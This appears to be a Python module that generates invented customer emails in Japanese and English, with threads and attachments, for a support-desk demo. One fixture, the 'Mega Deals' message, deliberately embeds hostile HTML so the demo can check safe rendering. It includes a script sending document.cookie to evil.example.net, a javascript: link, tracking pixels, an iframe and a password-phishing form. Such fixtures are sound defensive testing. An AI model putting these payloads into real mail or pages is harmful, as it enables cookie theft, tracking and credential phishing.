"""The demo's customers and what they write: a stream of invented emails in Japanese and English.

Orders, complaints, a thread with history (a follow-up that answers an earlier message with In-Reply-To and
References), one with attachments (a small PDF and a CSV), and a hostile HTML one (a tracking pixel, a script,
a remote style and a ``javascript:`` link) that the desktop must show safely. :func:`stream_message` makes the
``n``-th message of an endless stream: the list repeats in rounds, each round with its own order numbers and
Message-IDs, so the demo can keep mail arriving for as long as it runs. :func:`thank_you` is a customer's answer
to a reply that reached them, so that a sent reply is seen to arrive.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from email.utils import format_datetime, formataddr, getaddresses, make_msgid

from agentdesk.demo.center import SUPPORT_ADDRESS

MESSAGE_ID_DOMAIN = "mail.example.org"


@dataclass(frozen=True)
class Customer:
    name: str
    address: str
    language: str


YAMAMOTO = Customer("山本 健太", "kenta.yamamoto@example.org", "ja")
COOPER = Customer("Jane Cooper", "jane.cooper@example.net", "en")
NAKAMURA = Customer("中村 由美", "yumi.nakamura@example.org", "ja")
WILSON = Customer("Tom Wilson", "tom.wilson@example.net", "en")
KOBAYASHI = Customer("小林 さくら", "sakura.kobayashi@example.org", "ja")
GARCIA = Customer("Maria Garcia", "maria.garcia@example.net", "en")
ITO = Customer("伊藤 翔", "sho.ito@example.org", "ja")
DEALS = Customer("Mega Deals", "news@deals.example.net", "en")


def message_id(round_no: int, key: str) -> str:
    return f"<demo-{round_no}-{key}@{MESSAGE_ID_DOMAIN}>"


def _base(customer: Customer, subject: str, round_no: int, key: str, when: datetime) -> EmailMessage:
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = formataddr((customer.name, customer.address))
    msg["To"] = formataddr(("Example Store サポート", SUPPORT_ADDRESS))
    msg["Subject"] = subject
    msg["Date"] = format_datetime(when)
    msg["Message-ID"] = message_id(round_no, key)
    return msg


def _order(round_no: int, base: int) -> str:
    return f"A-{base + 1000 * round_no}"


# -- the messages -------------------------------------------------------------------------------------------

def _delay(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10234)
    msg = _base(YAMAMOTO, f"納期の遅れについて（注文番号 {order}）", n, "delay", when)
    msg.set_content(
        "Example Store ご担当者様\n\n"
        f"先週注文した商品（注文番号 {order}）がまだ届きません。\n"
        "注文確認メールでは 3 日以内に発送とありましたが、追跡番号も届いていません。\n"
        "週末に使う予定なので、いつ届くのか至急教えてください。\n\n"
        "山本 健太\n")
    return msg


def _delay_follow_up(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10234)
    msg = _base(YAMAMOTO, f"Re: 納期の遅れについて（注文番号 {order}）", n, "delay-2", when)
    first = message_id(n, "delay")
    msg["In-Reply-To"] = first
    msg["References"] = first
    msg.set_content(
        "追加で失礼します。\n\n"
        "先ほどの件ですが、届け先の住所を会社に変更できますか？\n"
        "〒100-0005 東京都千代田区丸の内 1-1-1 Example ビル 5F です。\n\n"
        "山本 健太\n\n"
        f"> 先週注文した商品（注文番号 {order}）がまだ届きません。\n"
        "> 注文確認メールでは 3 日以内に発送とありましたが、追跡番号も届いていません。\n")
    return msg


def _wrong_size(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10311)
    msg = _base(COOPER, f"Order #{order}: wrong size delivered", n, "size", when)
    msg.set_content(
        "Hello,\n\n"
        f"My order #{order} arrived today, but the jacket is a size M instead of the L I ordered.\n"
        "Can you send the right size? I would rather not pay for the return shipping.\n\n"
        "Thanks,\nJane Cooper\nCooper Design\n")
    return msg


def _invoice(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10288)
    msg = _base(NAKAMURA, "請求書と注文明細の確認のお願い", n, "invoice", when)
    msg.set_content(
        "Example Store ご担当者様\n\n"
        "いつもお世話になっております。中村商店の中村です。\n"
        f"注文番号 {order} の請求書の金額が、注文明細の合計と合いません。\n"
        "請求書（PDF）と明細（CSV）を添付しますので、ご確認いただけますでしょうか。\n\n"
        "中村 由美\n")
    msg.add_attachment(_pdf(f"Invoice {order}"), maintype="application", subtype="pdf",
                       filename=f"請求書_{order}.pdf")
    csv = ("品番,商品名,数量,単価,小計\n"
           "T-100,オーガニックコットン T シャツ,10,2500,25000\n"
           "B-220,キャンバストートバッグ,5,1800,9000\n"
           "S-031,ソックス 3 足組,20,900,18000\n"
           ",,,合計,52000\n")
    msg.add_attachment(csv.encode("utf-8"), maintype="text", subtype="csv", filename=f"注文明細_{order}.csv")
    return msg


def _hostile(n: int, when: datetime) -> EmailMessage:
    msg = _base(DEALS, "Your EXCLUSIVE coupon inside — 90% OFF today only!!!", n, "deals", when)
    msg.set_content("Your mail program does not show HTML. Visit http://deals.example.net/coupon\n")
    msg.add_alternative(
        "<html><head><style>body{background:url(http://tracker.example.net/bg.png)}</style>"
        "<script>document.location='http://evil.example.net/steal?c='+document.cookie</script></head>"
        "<body><h1>Exclusive coupon for Example Store support</h1>"
        "<p>Click <a href=\"javascript:alert('gotcha')\">here</a> to claim your prize, or "
        "<a href=\"http://deals.example.net/claim?u=support\" onclick=\"steal()\">here</a>.</p>"
        "<img src=\"http://tracker.example.net/open.gif?id=support%40example.com\" width=\"1\" height=\"1\">"
        "<iframe src=\"http://evil.example.net/frame\"></iframe>"
        "<form action=\"http://evil.example.net/login\"><input name=\"password\" type=\"password\"></form>"
        "</body></html>", subtype="html")
    return msg


def _cancel(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10402)
    msg = _base(WILSON, f"Please cancel order #{order}", n, "cancel", when)
    msg.set_content(
        "Hi there,\n\n"
        f"I placed order #{order} an hour ago by mistake (I ordered the same thing last week).\n"
        "Please cancel it before it ships and refund my card.\n\n"
        "Tom Wilson\n")
    return msg


def _gift(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10417)
    msg = _base(KOBAYASHI, f"ギフト包装の追加について（{order}）", n, "gift", when)
    msg.set_content(
        "こんにちは。\n\n"
        f"昨日注文した {order} ですが、母への誕生日プレゼントなので、\n"
        "ギフト包装とメッセージカードを追加していただくことは可能でしょうか。\n"
        "追加料金がかかる場合はお知らせください。\n\n"
        "小林 さくら\n")
    return msg


def _damaged(n: int, when: datetime) -> EmailMessage:
    order = _order(n, 10375)
    msg = _base(ITO, f"商品が破損していました（注文番号 {order}）", n, "damaged", when)
    msg.set_content(
        "本日届いたマグカップ 2 個のうち 1 個が割れていました。\n"
        "箱もへこんでいて、梱包が不十分だったのではないでしょうか。\n"
        "正直がっかりしています。交換か返金をお願いします。\n\n"
        "伊藤 翔\n")
    return msg


def _shipping(n: int, when: datetime) -> EmailMessage:
    msg = _base(GARCIA, "Do you ship to Spain?", n, "shipping", when)
    msg.set_content(
        "Hello,\n\n"
        "I love your tote bags. Do you ship to Spain, and how long does it take?\n"
        "Are customs fees included in the price?\n\n"
        "Best regards,\nMaria Garcia\n")
    return msg


#: the stream in order; the first ones arrive as soon as the demo starts
STREAM: tuple[Callable[[int, datetime], EmailMessage], ...] = (
    _delay, _wrong_size, _invoice, _hostile, _delay_follow_up, _cancel, _gift, _damaged, _shipping,
)
#: how many arrive at once when the demo starts for the first time
FIRST_BATCH = 4


def stream_message(n: int, when: datetime) -> bytes:
    """The ``n``-th message of the endless stream (0-based), dated ``when``, as RFC 5322 bytes."""
    round_no, index = divmod(n, len(STREAM))
    return STREAM[index](round_no, when).as_bytes()


def _pdf(title: str) -> bytes:
    """A small, valid one-page PDF that says ``title`` (ASCII)."""
    text = re.sub(r"[^A-Za-z0-9 #.\-]", "", title)
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("ascii")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# -- the customer answers -----------------------------------------------------------------------------------

def answered_stream_message(raw: bytes) -> str | None:
    """The Message-ID of the stream's message that our reply ``raw`` answers, else None (a customer thanks
    for a reply to what they wrote, never for a reply to their thank-you)."""
    parsed = BytesParser(policy=policy.default).parsebytes(raw, headersonly=True)
    in_reply_to = str(parsed.get("In-Reply-To", "")).strip()
    if in_reply_to.startswith("<demo-") and in_reply_to.endswith(f"@{MESSAGE_ID_DOMAIN}>"):
        return in_reply_to
    return None


def thank_you(raw: bytes, when: datetime) -> bytes | None:
    """The customer's thank-you for our reply ``raw`` (quoting it), or None when it was not to a customer."""
    parsed = BytesParser(policy=policy.default).parsebytes(raw)
    recipients = [addr.lower() for _name, addr in getaddresses([str(v) for v in parsed.get_all("To", [])])]
    customer = next((c for c in (YAMAMOTO, COOPER, NAKAMURA, WILSON, KOBAYASHI, GARCIA, ITO)
                     if c.address in recipients), None)
    if customer is None:
        return None
    subject = str(parsed.get("Subject", ""))
    ours = str(parsed.get("Message-ID", "")).strip()
    references = " ".join(filter(None, [str(parsed.get("References", "")).strip(), ours]))
    body_part = parsed.get_body(preferencelist=("plain",))
    quoted = "".join(f"> {line}\n" for line in (body_part.get_content() if body_part else "").splitlines()[:12])
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = formataddr((customer.name, customer.address))
    msg["To"] = formataddr(("Example Store サポート", SUPPORT_ADDRESS))
    msg["Subject"] = subject if subject.lower().startswith("re:") else f"Re: {subject}"
    msg["Date"] = format_datetime(when)
    msg["Message-ID"] = make_msgid("thanks", domain=MESSAGE_ID_DOMAIN)
    if ours:
        msg["In-Reply-To"] = ours
        msg["References"] = references
    if customer.language == "ja":
        text = f"ご返信ありがとうございます。承知しました。\nよろしくお願いいたします。\n\n{customer.name}\n\n"
    else:
        text = f"Thanks for the quick answer, that helps.\n\n{customer.name}\n\n"
    msg.set_content(text + quoted)
    return msg.as_bytes()
